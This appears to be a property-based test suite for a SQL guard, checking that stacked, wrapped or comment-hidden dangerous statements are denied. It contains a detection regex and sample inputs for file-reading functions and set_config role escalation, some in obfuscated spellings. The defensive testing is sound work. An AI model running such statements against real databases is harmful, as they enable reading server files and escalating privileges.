/** Words and characters that make string literals and comments look dangerous. */
const fragment = FastCheck.constantFrom(
  "DELETE", "drop table x", "; ", "--", "/*", "*/", "'", "\"", "`", "$$", "UPDATE users SET", "LOAD_FILE(",
  "pg_read_file(", "INTO OUTFILE", "x", " ", "\n", "é", "#", "/*!", "BEGIN", ")", "("
)
const literalContent = FastCheck.array(fragment, { maxLength: 8 }).map((parts) => parts.join(""))

describe("SqlGuard: properties", () => {
  it.prop("a denied statement stays denied when separated by comments and whitespace", { attack: attackArb }, ({
    attack: [dialect, sql]
  }) => {
    assert.strictEqual(judge(sql, { dialect })._tag, "Deny", `${dialect}: ${sql}`)
  }, { fastCheck: { numRuns: 400 } })

  it.prop("stacking a denied statement after an honest SELECT never allows it", { attack: attackArb }, ({
    attack: [dialect, sql, sep]
  }) => {
    assert.strictEqual(judge(`SELECT 1;${sep}${sql}`, { dialect })._tag, "Deny", `${dialect}: SELECT 1;${sep}${sql}`)
    assert.strictEqual(judge(`SELECT 1;${sep}${sql};`, { dialect })._tag, "Deny")
  }, { fastCheck: { numRuns: 300 } })

  it.prop("wrapping a denied statement in a CTE or a subquery never allows it", { attack: attackArb }, ({
    attack: [dialect, sql, sep]
  }) => {
    for (const wrapped of [
      `WITH x AS (${sep}${sql}${sep}) SELECT * FROM x`,
      `SELECT * FROM (${sql}) AS x`,
      `SELECT 1 WHERE EXISTS (${sql})`,
      `${sql}${sep}`
    ]) {
      assert.strictEqual(judge(wrapped, { dialect })._tag, "Deny", `${dialect}: ${wrapped}`)
    }
  }, { fastCheck: { numRuns: 300 } })

  it.prop("a dangerous function stays denied in write mode whatever the separators", { attack: attackArb }, ({
    attack: [dialect, sql]
  }) => {
    const dangerous = /load_file|outfile|pg_read_file|pg_ls_dir|program|dblink|terminate|load_extension|writefile|ATTACH|GLOBAL|LOAD\s*(\/\*.*?\*\/|--.*\n|#.*\n|\s)*DATA|SLEEP|ROLE/is
    if (!dangerous.test(sql)) return
    assert.strictEqual(judge(sql, { dialect, write: true })._tag, "Deny", `${dialect} (write): ${sql}`)
  }, { fastCheck: { numRuns: 300 } })

  it.prop("honest selects with keyword-laden string literals stay allowed", {
    dialect: FastCheck.constantFrom(...dialects),
    content: literalContent,
    alias: literalContent
  }, ({ dialect, content, alias }) => {
    const literal = `'${content.replaceAll("'", "''")}'`
    const identifier = dialect === "mysql" ? `\`${alias.replaceAll("`", "``")}\`` : `"${alias.replaceAll("\"", "\"\"")}"`
    const sql = `SELECT ${literal} AS ${identifier}, updated_at FROM orders WHERE note <> ${literal};`
    const verdict = judge(sql, { dialect })
    assert.strictEqual(verdict._tag, "Allow", `${dialect}: ${sql}\n→ ${show(verdict)}`)
    if (verdict._tag === "Allow") assert.strictEqual(verdict.statements.length, 1)
  }, { fastCheck: { numRuns: 400 } })

  it.prop("honest selects with keyword-laden comments stay allowed", {
    dialect: FastCheck.constantFrom(...dialects),
    block: literalContent.filter((c) => !c.includes("*/") && !c.includes("/*")),
    line: literalContent.filter((c) => !c.includes("\n"))
  }, ({ dialect, block, line }) => {
    const sql = `SELECT a /* ${block} */, b FROM t -- ${line}\nWHERE c = 1`
    const verdict = judge(sql, { dialect })
    assert.strictEqual(verdict._tag, "Allow", `${dialect}: ${sql}\n→ ${show(verdict)}`)
  }, { fastCheck: { numRuns: 300 } })

  it.prop("stacked honest selects are split one statement each", {
    dialect: FastCheck.constantFrom(...dialects),
    contents: FastCheck.array(literalContent, { minLength: 1, maxLength: 4 })
  }, ({ dialect, contents }) => {
    const statements = contents.map((c) => `SELECT '${c.replaceAll("'", "''")}' AS v`)
    const verdict = judge(statements.join(";\n"), { dialect })
    assert.deepStrictEqual(verdict, { _tag: "Allow", statements })
  }, { fastCheck: { numRuns: 200 } })

  it.prop("never throws, whatever the input", {
    dialect: FastCheck.constantFrom(...dialects),
    write: FastCheck.boolean(),
    sql: FastCheck.oneof(FastCheck.string({ maxLength: 200 }), FastCheck.array(fragment).map((p) => p.join(" ")))
  }, ({ dialect, write, sql }) => {
    const verdict = judge(sql, { dialect, write })
    assert.isTrue(verdict._tag === "Allow" || verdict._tag === "Deny")
  }, { fastCheck: { numRuns: 500 } })
})

describe("SqlGuard alone: the set_config family (issue 43)", () => {
  it("refuses switching the role, the session user or read-only mode back in every spelling, read or write", () => {
    for (const sql of [
      "SELECT set_config('role', 'postgres', true)", "SELECT pg_catalog.set_config('role', 'postgres', false)",
      "SELECT \"set_config\"('session_authorization', 'postgres', true)", "SELECT SET_CONFIG('ROLE', 'postgres', true)",
      "SELECT set_config('transaction_read_only', 'off', true)", "SELECT set_config /* x */ ('role', 'postgres', true), 1",
      "SELECT x FROM (SELECT set_config('role', 'postgres', true) AS x) s", "SELECT U&\"\\0073et_config\"('role', 'postgres', true)"
    ]) {
      denies(sql, "postgres")
    }
    for (const sql of [
      "SELECT set_config('role', 'postgres', true)", "SELECT set_config('session_authorization', 'postgres', false)",
      "SELECT set_config(name, 'postgres', true) FROM t", "INSERT INTO t SELECT set_config('role', 'x', true)"
    ]) {
      denies(sql, "postgres", undefined, true)
    }
  })
})

